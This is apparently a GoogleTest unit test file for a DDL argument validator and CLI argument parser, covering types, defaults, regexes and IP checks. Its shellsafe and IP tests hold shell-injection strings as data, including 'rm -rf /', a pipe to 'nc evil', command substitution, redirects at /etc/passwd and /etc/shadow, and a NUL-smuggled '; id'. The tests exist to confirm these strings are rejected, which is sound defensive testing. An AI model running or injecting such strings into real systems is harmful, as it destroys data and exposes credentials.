// validate() and parseCliArguments(): every rule, defaults, and injection attempts.
#include "core/ddl/validator.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <filesystem>

#include "core/ddl/loader.hpp"

namespace drover::ddl {
namespace {

using ::testing::ElementsAre;
using ::testing::IsEmpty;

// One action with an input of every type and every validator.
const char* const kDemo = R"({
  "metadata": {"name": "demo"},
  "actions": [{
    "action": "run",
    "input": {
      "name":    {"type": "string", "optional": false, "maxlength": 8, "validation": "^[a-z]+$"},
      "note":    {"type": "string", "optional": true, "maxlength": 5},
      "digit":   {"type": "string", "optional": true, "validation": "[0-9]"},
      "count":   {"type": "integer", "optional": true, "default": 3},
      "ratio":   {"type": "float", "optional": true},
      "size":    {"type": "number", "optional": true},
      "force":   {"type": "boolean", "optional": true, "default": false},
      "mode":    {"type": "list", "optional": true, "list": ["fast", "slow"]},
      "options": {"type": "hash", "optional": true},
      "items":   {"type": "array", "optional": true},
      "extra":   {"type": "any", "optional": true},
      "command": {"type": "string", "optional": true, "validation": "shellsafe"},
      "ip4":     {"type": "string", "optional": true, "validation": "ipv4address"},
      "ip6":     {"type": "string", "optional": true, "validation": "ipv6address"},
      "ip":      {"type": "string", "optional": true, "validation": "ipaddress"}
    }
  }]
})";

const Action& demo() {
  static const Ddl ddl = parseText(kDemo, "demo.json");
  return ddl.actions[0];
}

// Validates name=abc plus `extra` arguments; returns the violations.
std::vector<Violation> check(Json extra) {
  Json args = {{"name", "abc"}};
  args.update(extra);
  return validate(demo(), args);
}

std::vector<std::string> rules(const std::vector<Violation>& violations) {
  std::vector<std::string> out;
  for (const auto& v : violations) out.push_back(v.input + ":" + v.rule);
  return out;
}

TEST(DdlValidate, LeavesArgumentsAsSentAndDefaultsToTheAgent) {
  Json args = {{"name", "abc"}};
  EXPECT_THAT(validate(demo(), args), IsEmpty());
  EXPECT_EQ(args, Json({{"name", "abc"}}));
  applyDefaults(demo(), args);
  EXPECT_EQ(args, Json({{"name", "abc"}, {"count", 3}, {"force", false}}));
}

TEST(DdlValidate, GivenValuesWinOverDefaults) {
  Json args = {{"name", "abc"}, {"count", 9}, {"force", true}};
  EXPECT_THAT(validate(demo(), args), IsEmpty());
  applyDefaults(demo(), args);
  EXPECT_EQ(args, Json({{"name", "abc"}, {"count", 9}, {"force", true}}));
}

TEST(DdlValidate, NullCountsAsAbsent) {
  Json args = {{"name", "abc"}, {"count", nullptr}, {"note", nullptr}};
  EXPECT_THAT(validate(demo(), args), IsEmpty());
  EXPECT_EQ(args, Json({{"name", "abc"}}));
  Json missing = {{"name", nullptr}};
  EXPECT_THAT(rules(validate(demo(), missing)), ElementsAre("name:required"));
  Json sentNull = {{"name", "abc"}, {"count", nullptr}};
  applyDefaults(demo(), sentNull);
  EXPECT_EQ(sentNull["count"], 3);
}

// An input in the style of Choria's choria_provision: "" as its default, which its own
// validation refuses, and a required one whose default stands in when it is left out.
const char* const kDefaults = R"({
  "metadata": {"name": "demo"},
  "actions": [{
    "action": "run",
    "input": {
      "token":  {"type": "string", "optional": true, "default": "", "validation": ".",
                 "maxlength": 128},
      "mode":   {"type": "list", "optional": false, "default": "agent", "list": ["agent", "data"]},
      "name":   {"type": "string", "optional": false, "validation": "^[a-z]+$"}
    }
  }]
})";

const Action& withDefaults() {
  static const Ddl ddl = parseText(kDefaults, "defaults.json");
  return ddl.actions[0];
}

TEST(DdlValidate, DefaultsAreNotHeldToTheInputsRule) {
  Json args = {{"name", "abc"}};
  EXPECT_THAT(validate(withDefaults(), args), IsEmpty());
  applyDefaults(withDefaults(), args);
  EXPECT_EQ(args, Json({{"name", "abc"}, {"token", ""}, {"mode", "agent"}}));
}

TEST(DdlValidate, WhatTheCallerSendsIsHeldToTheRuleEvenWhenItEqualsTheDefault) {
  Json args = {{"name", "abc"}, {"token", ""}, {"mode", "other"}};
  EXPECT_THAT(rules(validate(withDefaults(), args)), ElementsAre("token:regex", "mode:list"));
}

TEST(DdlValidate, ARequiredInputWithADefaultMayBeLeftOut) {
  Json args = {{"name", "abc"}};
  EXPECT_THAT(validate(withDefaults(), args), IsEmpty());
  Json none = Json::object();
  EXPECT_THAT(rules(validate(withDefaults(), none)), ElementsAre("name:required"));
}

TEST(DdlApplyDefaults, LeavesWhatIsNotAnObject) {
  Json args = Json::array({1});
  applyDefaults(withDefaults(), args);
  EXPECT_EQ(args, Json::array({1}));
}

TEST(DdlApplyDefaults, HandBuiltNullDefaultIsNoDefault) {
  Action action;
  Input input;
  input.name = "v";
  input.defaultValue = Json(nullptr);
  action.inputs.push_back(input);
  Json args = Json::object();
  applyDefaults(action, args);
  EXPECT_EQ(args, Json::object());
  EXPECT_THAT(rules(validate(action, args)), ElementsAre("v:required"));
}

TEST(DdlValidateValue, ChecksOneValueAgainstOneInput) {
  const Input& token = *withDefaults().findInput("token");
  EXPECT_THAT(validateValue(token, "x"), IsEmpty());
  EXPECT_THAT(rules(validateValue(token, "")), ElementsAre("token:regex"));
  EXPECT_THAT(rules(validateValue(token, 5)), ElementsAre("token:type"));
}

TEST(DdlValidate, RequiredInputMissing) {
  Json args = Json::object();
  auto violations = validate(demo(), args);
  ASSERT_EQ(violations.size(), 1u);
  EXPECT_EQ(violations[0].input, "name");
  EXPECT_EQ(violations[0].rule, "required");
  EXPECT_EQ(violations[0].message, "input 'name' fails validation 'required': it is missing");
}

TEST(DdlValidate, UndeclaredInput) {
  auto violations = check({{"colour", "red"}});
  ASSERT_EQ(violations.size(), 1u);
  EXPECT_EQ(violations[0].rule, "unknown");
  EXPECT_EQ(violations[0].message,
            "input 'colour' fails validation 'unknown': action 'run' declares no such input");
}

TEST(DdlValidate, ArgumentsMustBeAHash) {
  Json args = Json::array({"name"});
  auto violations = validate(demo(), args);
  ASSERT_EQ(violations.size(), 1u);
  EXPECT_EQ(violations[0].rule, "type");
  EXPECT_EQ(violations[0].message, "arguments must be a hash, got array");
}

struct TypeCase {
  const char* input;
  Json value;
  bool ok;
};

class DdlValidateType : public ::testing::TestWithParam<TypeCase> {};

TEST_P(DdlValidateType, ChecksTheDeclaredType) {
  const TypeCase& c = GetParam();
  auto violations = check({{c.input, c.value}});
  if (c.ok) {
    EXPECT_THAT(violations, IsEmpty()) << c.input << "=" << c.value;
  } else {
    EXPECT_THAT(rules(violations), ElementsAre(std::string(c.input) + ":type"))
        << c.input << "=" << c.value;
  }
}

INSTANTIATE_TEST_SUITE_P(
    AllTypes, DdlValidateType,
    ::testing::Values(
        TypeCase{"note", "x", true}, TypeCase{"note", 5, false}, TypeCase{"count", 5, true},
        TypeCase{"count", -5, true}, TypeCase{"count", 5.0, true}, TypeCase{"count", 5.5, false},
        TypeCase{"count", "5", false}, TypeCase{"count", true, false}, TypeCase{"ratio", 0.5, true},
        TypeCase{"ratio", 2, true}, TypeCase{"ratio", "0.5", false}, TypeCase{"size", 7, true},
        TypeCase{"size", 7.5, true}, TypeCase{"size", "7", false}, TypeCase{"force", true, true},
        TypeCase{"force", "true", false}, TypeCase{"force", 1, false},
        TypeCase{"mode", "fast", true}, TypeCase{"mode", 1, false},
        TypeCase{"options", Json::object(), true}, TypeCase{"options", Json::array(), false},
        TypeCase{"items", Json::array({1, "a"}), true}, TypeCase{"items", "a,b", false},
        TypeCase{"extra", Json::object({{"a", 1}}), true}, TypeCase{"extra", 1, true}),
    [](const ::testing::TestParamInfo<TypeCase>& param) {
      return std::string(param.param.input) + "_" + std::to_string(param.index);
    });

TEST(DdlValidate, TypeMessageNamesExpectedAndActual) {
  auto violations = check({{"count", "five"}});
  ASSERT_EQ(violations.size(), 1u);
  EXPECT_EQ(violations[0].message,
            "input 'count' fails validation 'type': must be integer, got string");
}

TEST(DdlValidate, IntegralFloatBecomesInteger) {
  Json args = {{"name", "abc"}, {"count", 4.0}};
  EXPECT_THAT(validate(demo(), args), IsEmpty());
  EXPECT_TRUE(args["count"].is_number_integer());
  EXPECT_EQ(args["count"], 4);
}

TEST(DdlValidate, MaxlengthCountsCharacters) {
  EXPECT_THAT(check({{"note", "abcde"}}), IsEmpty());
  EXPECT_THAT(check({{"note", "\xC3\xA9\xC3\xA9\xC3\xA9\xC3\xA9\xC3\xA9"}}), IsEmpty());  // 5 x é
  auto violations = check({{"note", "abcdef"}});
  ASSERT_EQ(violations.size(), 1u);
  EXPECT_EQ(violations[0].rule, "maxlength");
  EXPECT_EQ(violations[0].message,
            "input 'note' fails validation 'maxlength': 6 characters, at most 5 allowed");
}

TEST(DdlValidate, ListMustHoldAnAllowedValue) {
  auto violations = check({{"mode", "medium"}});
  ASSERT_EQ(violations.size(), 1u);
  EXPECT_EQ(violations[0].rule, "list");
  EXPECT_EQ(violations[0].message,
            "input 'mode' fails validation 'list': must be one of fast, slow");
}

TEST(DdlValidate, RegexIsAPartialMatch) {
  EXPECT_THAT(check({{"digit", "abc1def"}}), IsEmpty());  // MCollective: unanchored match
  auto violations = check({{"digit", "abcdef"}});
  ASSERT_EQ(violations.size(), 1u);
  EXPECT_EQ(violations[0].rule, "regex");
  EXPECT_EQ(violations[0].message,
            "input 'digit' fails validation 'regex': does not match /[0-9]/");
}

TEST(DdlValidate, AnchoredRegexRejectsEmbeddedNewline) {
  // RE2's ^ and $ anchor the whole text, unlike Ruby's line anchors.
  Json args = {{"name", "abc\nrm"}};
  EXPECT_THAT(rules(validate(demo(), args)), ElementsAre("name:regex"));
}

TEST(DdlValidate, ReportsEveryViolation) {
  Json args = {{"name", "ABCDEFGHIJ"}, {"count", "x"}, {"bogus", 1}};
  EXPECT_THAT(rules(validate(demo(), args)),
              ElementsAre("bogus:unknown", "name:maxlength", "name:regex", "count:type"));
}

TEST(DdlValidate, HandBuiltActionsCompileTheirRegexOnDemand) {
  Action action;
  action.name = "x";
  Input input;
  input.name = "v";
  input.validation = "^a+$";
  action.inputs.push_back(input);
  Json good = {{"v", "aaa"}}, bad = {{"v", "b"}};
  EXPECT_THAT(validate(action, good), IsEmpty());
  EXPECT_THAT(rules(validate(action, bad)), ElementsAre("v:regex"));
  action.inputs[0].validation = "(";
  EXPECT_EQ(validate(action, good).at(0).message,
            "input 'v' fails validation 'regex': invalid regex /(/");
}

using Injection = std::pair<std::string, std::string>;  // value, why it fails

class DdlValidateShellsafe : public ::testing::TestWithParam<Injection> {};

TEST_P(DdlValidateShellsafe, RejectsShellMetacharacters) {
  const auto& [value, why] = GetParam();
  auto violations = check({{"command", value}});
  ASSERT_EQ(violations.size(), 1u) << value;
  EXPECT_EQ(violations[0].rule, "shellsafe");
  EXPECT_EQ(violations[0].message, "input 'command' fails validation 'shellsafe': " + why);
}

INSTANTIATE_TEST_SUITE_P(
    Injections, DdlValidateShellsafe,
    ::testing::Values(Injection{"production; rm -rf /", "contains ';'"},
                      Injection{"$(touch /tmp/x)", "contains '$'"},
                      Injection{"`id`", "contains '`'"}, Injection{"a | nc evil 1", "contains '|'"},
                      Injection{"a && b", "contains '&'"}, Injection{"sleep 9 &", "contains '&'"},
                      Injection{"x > /etc/passwd", "contains '>'"},
                      Injection{"x < /etc/shadow", "contains '<'"},
                      Injection{"a\nreboot", "contains a newline"},
                      Injection{"a\rb", "contains a carriage return"},
                      Injection{std::string("a\0b", 3), "contains a NUL byte"}));

TEST(DdlValidate, ShellsafeAcceptsOrdinaryText) {
  EXPECT_THAT(check({{"command", "nginx-1.2_3 /var/www 'quoted' \"x\" a=b"}}), IsEmpty());
}

TEST(DdlValidate, IpAddresses) {
  EXPECT_THAT(check({{"ip4", "192.168.0.1"}, {"ip6", "fe80::1"}, {"ip", "10.0.0.1"}}), IsEmpty());
  EXPECT_THAT(check({{"ip", "::ffff:10.0.0.1"}}), IsEmpty());
  EXPECT_THAT(rules(check({{"ip4", "256.1.1.1"}})), ElementsAre("ip4:ipv4address"));
  EXPECT_THAT(rules(check({{"ip4", "1.2.3"}})), ElementsAre("ip4:ipv4address"));
  EXPECT_THAT(rules(check({{"ip4", "fe80::1"}})), ElementsAre("ip4:ipv4address"));
  EXPECT_THAT(rules(check({{"ip4", std::string("1.2.3.4\0; id", 12)}})),
              ElementsAre("ip4:ipv4address"));
  EXPECT_THAT(rules(check({{"ip6", "10.0.0.1"}})), ElementsAre("ip6:ipv6address"));
  EXPECT_THAT(rules(check({{"ip6", "fe80:::1"}})), ElementsAre("ip6:ipv6address"));
  auto violations = check({{"ip", "example.com"}});
  ASSERT_EQ(violations.size(), 1u);
  EXPECT_EQ(violations[0].message,
            "input 'ip' fails validation 'ipaddress': is not an IPv4 or IPv6 address");
}

TEST(DdlValidate, RealPuppetDdlRefusesInjectedEnvironment) {
  Ddl puppet =
      loadFile(std::filesystem::path(DROVER_SOURCE_DIR) / "tests/unit/ddl/data/choria/puppet.json");
  const Action& runonce = *puppet.findAction("runonce");
  Json good = {{"environment", "production"},
               {"tags", "apache,ntp::config"},
               {"server", "puppet.example.com:8140"},
               {"noop", true},
               {"splaylimit", 30}};
  EXPECT_THAT(validate(runonce, good), IsEmpty());
  Json bad = {{"environment", "production;reboot"}, {"tags", "a b"}, {"server", "-x:1"}};
  auto violations = validate(runonce, bad);
  EXPECT_THAT(rules(violations), ElementsAre("server:puppet_server_address", "tags:puppet_tags",
                                             "environment:puppet_variable"));
  EXPECT_EQ(violations[2].message,
            "input 'environment' fails validation 'puppet_variable': contains ';'");
}

// ---- parseCliArguments ----------------------------------------------------------------

TEST(DdlCliArguments, ConvertsPerInputType) {
  Json args = parseCliArguments(
      demo(), {"name=abc", "count=5", "ratio=2.5", "size=7", "force=yes", "mode=fast",
               R"(options={"a":1})", "items=[1,\"x\"]", "note=a=b", "extra=42", "colour=red"});
  EXPECT_EQ(args, Json({{"name", "abc"},
                        {"count", 5},
                        {"ratio", 2.5},
                        {"size", 7},
                        {"force", true},
                        {"mode", "fast"},
                        {"options", {{"a", 1}}},
                        {"items", {1, "x"}},
                        {"note", "a=b"},
                        {"extra", "42"},
                        {"colour", "red"}}));
  EXPECT_TRUE(args["size"].is_number_integer());
}

TEST(DdlCliArguments, NumbersAndBooleans) {
  EXPECT_EQ(parseCliArguments(demo(), {"count=-12"})["count"], -12);
  EXPECT_TRUE(parseCliArguments(demo(), {"ratio=3"})["ratio"].is_number_float());
  EXPECT_EQ(parseCliArguments(demo(), {"size=7.25"})["size"], 7.25);
  for (const char* yes : {"true", "TRUE", "yes", "Yes", "1"}) {
    EXPECT_EQ(parseCliArguments(demo(), {std::string("force=") + yes})["force"], true) << yes;
  }
  for (const char* no : {"false", "False", "no", "NO", "0"}) {
    EXPECT_EQ(parseCliArguments(demo(), {std::string("force=") + no})["force"], false) << no;
  }
  EXPECT_EQ(parseCliArguments(demo(), {"note="})["note"], "");
}

std::string cliError(const std::vector<std::string>& keyValues) {
  try {
    parseCliArguments(demo(), keyValues);
  } catch (const std::invalid_argument& e) {
    return e.what();
  }
  return "(parsed)";
}

TEST(DdlCliArguments, ErrorsNameTheArgument) {
  EXPECT_EQ(cliError({"verbose"}), "argument 'verbose': expected key=value");
  EXPECT_EQ(cliError({"=5"}), "argument '=5': expected key=value");
  EXPECT_EQ(cliError({"count=abc"}), "argument 'count=abc': value is not an integer");
  EXPECT_EQ(cliError({"count=5.5"}), "argument 'count=5.5': value is not an integer");
  EXPECT_EQ(cliError({"count=99999999999999999999"}),
            "argument 'count=99999999999999999999': value is not an integer");
  EXPECT_EQ(cliError({"ratio=fast"}), "argument 'ratio=fast': value is not a number");
  EXPECT_EQ(cliError({"ratio=inf"}), "argument 'ratio=inf': value is not a number");
  EXPECT_EQ(cliError({"size=1e"}), "argument 'size=1e': value is not a number");
  EXPECT_EQ(cliError({"force=maybe"}),
            "argument 'force=maybe': value is not a boolean (true/false, yes/no, 1/0)");
  EXPECT_EQ(cliError({"options=[1]"}), "argument 'options=[1]': value is not a JSON object");
  EXPECT_EQ(cliError({"options={bad"}), "argument 'options={bad': value is not a JSON object");
  EXPECT_EQ(cliError({"items={}"}), "argument 'items={}': value is not a JSON array");
  EXPECT_EQ(cliError({"count=1", "count=2"}),
            "argument 'count=2': 'count' is given more than once");
}

TEST(DdlCliArguments, ResultGoesThroughValidate) {
  Json args = parseCliArguments(demo(), {"name=abc", "mode=medium", "bogus=1"});
  EXPECT_THAT(rules(validate(demo(), args)), ElementsAre("bogus:unknown", "mode:list"));
}

}  // namespace
}  // namespace drover::ddl
